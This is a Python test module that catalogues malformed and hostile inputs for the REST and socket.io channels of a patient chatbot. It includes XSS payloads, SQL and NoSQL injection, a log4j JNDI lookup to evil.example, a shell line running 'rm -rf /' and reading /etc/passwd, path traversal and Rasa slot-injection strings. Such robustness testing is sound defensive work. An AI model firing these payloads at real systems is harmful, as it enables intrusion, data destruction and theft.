"""The catalogue of hostile and malformed input thrown at the chat channels and the API.

Each test takes the cases it can send and adds how many it tried to `TRIED`, so the suite can
say how many were thrown at the servers in all.
"""

from __future__ import annotations

import json
from collections import Counter
from typing import Any

#: COPRODUCE_MAX_MESSAGE_CHARS as the test stack runs (the default).
MAX_CHARS = 4000

#: Cases tried per channel in this test session.
TRIED: Counter[str] = Counter()


def tried(channel: str, count: int) -> None:
    """Count cases tried on a channel and print the running total."""
    TRIED[channel] += count
    print(f"hostile cases tried: {sum(TRIED.values())} ({dict(TRIED)})")


#: Well-formed but hostile patient messages: each must get a kind reply and change nothing
#: said before. (name, text)
TEXTS: list[tuple[str, str]] = [
    ("empty", ""),
    ("one space", " "),
    ("whitespace mix", " \t\n \r\n "),
    ("newlines only", "\n" * 50),
    ("odd spaces", "\u00a0\u3000\u2003"),
    ("zero-width only", "\u200b\u200c\u200d\ufeff"),
    ("NUL", "\x00"),
    ("NUL inside", "my knee\x00 hurts"),
    ("terminal escapes", "\x07\x1b[2J\x1b[31mred"),
    ("C1 controls", "\x85\x9b\x9f text"),
    ("DEL", "\x7f\x7f"),
    ("backspaces", "secret\x08\x08\x08\x08\x08\x08"),
    ("carriage return", "line one\rline two"),
    ("emoji", "😀😂🤣 my knee 🦵"),
    ("emoji family", "👩‍👩‍👧‍👦"),
    ("flags", "🇬🇧🇺🇦"),
    ("skin tones", "👍🏽👍🏿"),
    ("Arabic", "أريد أن أمشي مع كلبي مرة أخرى"),
    ("Hebrew", "אני רוצה ללכת עם הכלב שלי"),
    ("right-to-left override", "\u202eexe.live\u202c"),
    ("mixed direction", "my aim: \u2067שלום\u2069 ok"),
    ("Chinese", "我想再次遛狗"),
    ("zalgo", "z̴̧̛̲̪̈́a̷̡̛͓̔l̸̰̈́g̵̞̈o̷̤͑ " * 20),
    ("astral letters", "𝕳𝖊𝖑𝖑𝖔 𝟘𝟙𝟚"),
    ("script tag", "<script>alert(1)</script>"),
    ("img onerror", '<img src=x onerror="alert(document.cookie)">'),
    ("svg onload", "<svg/onload=alert(1)>"),
    ("javascript URL", "javascript:alert(1)"),
    ("HTML entities", "&lt;b&gt;&amp;&#x27;&#0;"),
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("markdown", "[click me](javascript:alert(1)) **bold** `code`"),
    ("SQL or", "' OR '1'='1"),
    ("SQL drop", "Robert'); DROP TABLE visits;--"),
    ("SQL union", "1 UNION SELECT token_hash FROM invites --"),
    ("SQL comment", "admin'/*"),
    ("NoSQL operator", '{"$gt": ""}'),
    ("JSON as text", '{"sender": "someone-else", "message": "hi"}'),
    ("array as text", "[1, 2, 3]"),
    ("template", "{{ 7*7 }} {% raw %} ${7*7}"),
    ("format string", "%s%s%s%n%x {0} {sender}"),
    ("log4j", "${jndi:ldap://evil.example/a}"),
    ("shell", "$(rm -rf /); `id`; | cat /etc/passwd"),
    ("path traversal", "../../../../etc/passwd"),
    ("header injection", "hi\r\nSet-Cookie: admin=1"),
    ("forged log line", "ok\n2025-01-01 12:00:00 INFO rasa.core - admin signed in"),
    ("one long word", "a" * 3000),
    ("many words", "pain " * 790),
    ("at the cap", "x" * MAX_CHARS),
    ("at the cap, accents", "é" * MAX_CHARS),
    ("at the cap, emoji", "😀" * MAX_CHARS),
    ("unpaired surrogate", "\ud800 hi"),
    ("noncharacters", "\ufffe\uffff\U0010ffff"),
    ("replacement characters", "\ufffd\ufffd"),
    ("Rasa restart", "/restart"),
    ("Rasa session start", "/session_start"),
    ("Rasa back", "/back"),
    ("unknown intent", "/nonexistent_intent"),
    ("payload, broken JSON", '/affirm{"bad json'),
    ("payload, slot injection", '/inform{"aim": "hacked", "visit_id": "someone-else"}'),
    ("payload, confidence", "/greet@0.99"),
    ("payload, big entity", '/inform{"x": "' + "y" * 3000 + '"}'),
    ("slash", "/"),
    ("number", "42"),
    ("negative number", "-1"),
    ("huge number", "1e308"),
    ("URL", "https://evil.example/?q=<script>"),
    ("email address", "someone@example.com"),
]

#: Messages over the cap: REST answers 413, socket.io a kind "too long" message. (name, text)
TOO_LONG: list[tuple[str, str]] = [
    ("one over the cap", "x" * (MAX_CHARS + 1)),
    ("100 KB of words", "my knee " * 12_800),
    ("100 KB of emoji", "😀" * 25_600),
    ("100 KB of newlines", "\n" * 102_400),
    ("100 KB of HTML", "<b>" * 34_134),
]


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def rest_refusals(sender: str, token: str) -> list[tuple[str, bytes, int]]:
    """Return REST bodies the channel must refuse: (name, body, status)."""
    ok = {"sender": sender, "message": "hello", "metadata": {"invite_token": token}}

    def without(field: str) -> bytes:
        return _json({k: v for k, v in ok.items() if k != field})

    def with_(**fields: Any) -> bytes:
        return _json({**ok, **fields})

    nested = b"[" * 20_000 + b"]" * 20_000
    prefix = f'{{"sender": "{sender}", "message": "hi", '.encode()
    cases: list[tuple[str, bytes, int]] = [
        ("empty body", b"", 400),
        ("plain text", b"hello there", 400),
        ("form encoded", b"sender=a&message=hello", 400),
        ("XML", b"<message>hello</message>", 400),
        ("truncated JSON", _json(ok)[:-5], 400),
        ("invalid UTF-8", b'{"sender": "\xff\xfe", "message": "hi"}', 400),
        ("JSON array", b"[]", 400),
        ("array of the message", _json([ok]), 400),
        ("JSON null", b"null", 400),
        ("JSON number", b"42", 400),
        ("JSON string", b'"hello"', 400),
        ("JSON true", b"true", 400),
        ("NaN in metadata", prefix + b'"metadata": {"x": NaN}}', 400),
        ("Infinity as message", f'{{"sender": "{sender}", "message": Infinity}}'.encode(), 400),
        ("deeply nested metadata", prefix + b'"metadata": {"x": ' + nested + b"}}", 400),
        ("sender twice", prefix + b'"sender": "other"}', 400),
        ("message twice", prefix + b'"message": "again"}', 400),
        ("token twice", prefix + b'"metadata": {"invite_token": "a", "invite_token": "b"}}', 400),
        ("no sender", without("sender"), 400),
        ("sender null", with_(sender=None), 400),
        ("sender number", with_(sender=42), 400),
        ("sender float", with_(sender=1.5), 400),
        ("sender true", with_(sender=True), 400),
        ("sender list", with_(sender=[sender]), 400),
        ("sender object", with_(sender={"id": sender}), 400),
        ("sender empty", with_(sender=""), 400),
        ("sender blank", with_(sender="   "), 400),
        ("sender 256 chars", with_(sender="s" * 256), 400),
        ("sender 10 KB", with_(sender="s" * 10_000), 400),
        ("sender with newline", with_(sender=f"{sender}\n"), 400),
        ("sender with NUL", with_(sender=f"{sender}\x00"), 400),
        ("no message", without("message"), 400),
        ("message null", with_(message=None), 400),
        ("message number", with_(message=7), 400),
        ("message float", with_(message=3.0), 400),
        ("message false", with_(message=False), 400),
        ("message list", with_(message=["hello"]), 400),
        ("message object", with_(message={"text": "hello"}), 400),
        ("metadata string", with_(metadata=token), 400),
        ("metadata list", with_(metadata=[token]), 400),
        ("metadata number", with_(metadata=1), 400),
        ("metadata true", with_(metadata=True), 400),
        ("input_channel number", with_(input_channel=1), 400),
        ("input_channel empty", with_(input_channel=""), 400),
        ("input_channel 1 KB", with_(input_channel="c" * 1024), 400),
        ("1 MB of metadata", with_(metadata={"invite_token": token, "pad": "p" * 1_000_000}), 413),
    ]
    cases += [(name, with_(message=text), 413) for name, text in TOO_LONG]
    return cases


def rest_odd_but_valid(sender: str, token: str, other_token: str) -> list[tuple[str, dict]]:
    """Return well-formed REST bodies with wrong tokens or odd fields: each gets a kind reply.

    None of them may change the conversation of `sender` (bound to `token`).
    """
    base = {"sender": sender, "message": "hello"}
    return [
        ("no metadata", base),
        ("metadata null", {**base, "metadata": None}),
        ("metadata empty", {**base, "metadata": {}}),
        ("token null", {**base, "metadata": {"invite_token": None}}),
        ("token number", {**base, "metadata": {"invite_token": 12345}}),
        ("token list", {**base, "metadata": {"invite_token": [token]}}),
        ("token object", {**base, "metadata": {"invite_token": {"$ne": ""}}}),
        ("token empty", {**base, "metadata": {"invite_token": ""}}),
        ("token unknown", {**base, "metadata": {"invite_token": "not-a-real-token"}}),
        ("token SQL", {**base, "metadata": {"invite_token": "' OR 1=1 --"}}),
        ("token 10 KB", {**base, "metadata": {"invite_token": "t" * 10_000}}),
        ("token of another visit", {**base, "metadata": {"invite_token": other_token}}),
        ("token with control chars", {**base, "metadata": {"invite_token": f"{token}\x00\n"}}),
        ("unknown fields", {**base, "metadata": {"invite_token": token}, "admin": True}),
        (
            "input_channel claimed",
            {**base, "metadata": {"invite_token": token}, "input_channel": "x"},
        ),
        (
            "nested metadata",
            {**base, "metadata": {"invite_token": token, "a": {"b": [1, {"c": 2}]}}},
        ),
    ]


def rest_new_senders() -> list[tuple[str, str]]:
    """Return odd but valid sender ids (each opens its own conversation). (name, sender)"""
    return [
        ("emoji sender", "😀-patient"),
        ("Arabic sender", "مريض-١"),
        ("SQL sender", "x'; DROP TABLE events;--"),
        ("path sender", "../../admin"),
        ("255-char sender", "s" * 255),
        ("HTML sender", "<script>alert(1)</script>"),
    ]


def socket_refusals(session_id: str, token: str) -> list[tuple[str, Any, str]]:
    """Return socket.io `user_uttered` payloads that get a kind refusal: (name, data, kind).

    `kind` is "unreadable" or "too long", the reply the channel must send.
    """
    meta = {"invite_token": token}
    ok: dict[str, Any] = {"session_id": session_id, "customData": meta}
    cases: list[tuple[str, Any, str]] = [
        ("no payload", None, "unreadable"),
        ("string payload", "hello", "unreadable"),
        ("number payload", 42, "unreadable"),
        ("list payload", ["hello"], "unreadable"),
        ("no message", ok, "unreadable"),
        ("message null", {**ok, "message": None}, "unreadable"),
        ("message number", {**ok, "message": 3}, "unreadable"),
        ("message true", {**ok, "message": True}, "unreadable"),
        ("message list", {**ok, "message": ["hello"]}, "unreadable"),
        ("message object", {**ok, "message": {"text": "hello"}}, "unreadable"),
        ("no session_id", {"message": "hello", "customData": meta}, "unreadable"),
        ("session_id number", {**ok, "message": "hello", "session_id": 1}, "unreadable"),
    ]
    cases += [(name, {**ok, "message": text}, "too long") for name, text in TOO_LONG]
    return cases


def socket_odd_but_valid(session_id: str, token: str) -> list[tuple[str, Any]]:
    """Return socket payloads with odd metadata that still get a normal reply: (name, data)."""
    ok = {"session_id": session_id, "message": "who will see this?"}
    return [
        ("customData as JSON text", {**ok, "customData": json.dumps({"invite_token": token})}),
        ("customData broken JSON", {**ok, "customData": '{"invite_token": '}),
        ("customData list", {**ok, "customData": [token]}),
        ("customData number", {**ok, "customData": 5}),
        ("no customData", ok),
        ("token number", {**ok, "customData": {"invite_token": 5}}),
        ("unknown token", {**ok, "customData": {"invite_token": "nope"}}),
        ("control chars", {**ok, "message": "who\x00 will\x1b see this?", "customData": {}}),
    ]
